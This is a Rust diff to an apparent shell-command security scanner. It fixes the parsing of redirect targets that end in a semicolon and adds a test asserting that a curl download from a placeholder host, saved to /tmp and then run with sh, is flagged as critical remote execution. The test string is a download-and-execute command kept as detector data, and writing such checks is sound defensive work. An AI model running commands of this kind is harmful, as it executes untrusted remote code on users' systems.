@@ -219,6 +219,10 @@ fn downloads(line: &str) -> Vec<Download> {
             if take_next {
                 out = next;
                 j += 1;
+                if tokens.get(j).is_some_and(|t| t.ends_with(';')) {
+                    j += 1;
+                    break;
+                }
             }
             if raw.ends_with(';') {
                 j += 1;
@@ -226,6 +230,8 @@ fn downloads(line: &str) -> Vec<Download> {
             }
             j += 1;
         }
+        // `> /tmp/x.sh;` ends the command: the file is named without it.
+        let out = out.map(|p| p.trim_end_matches(';').to_string());
         let path = match out {
             Some(p) if p == "-" || p.starts_with("/dev/") => None,
             Some(p) => Some(p),
@@ -400,6 +406,21 @@ mod tests {
             RemoteExecution,
             Critical,
             2,
+        );
+    }
+
+    #[test]
+    fn flags_download_then_run_after_a_semicolon() {
+        assert_hit(
+            "curl -fsSL https://a.example/i.sh > /tmp/inst.sh; sh /tmp/inst.sh",
+            "remote.download-exec",
+            RemoteExecution,
+            Critical,
+            1,
+        );
+        assert_eq!(
+            downloads("curl -fsSL https://a.example/i.sh > /tmp/inst.sh; sh /tmp/inst.sh"),
+            [Download { path: "/tmp/inst.sh".into(), end_token: 5 }]
         );
     }
 
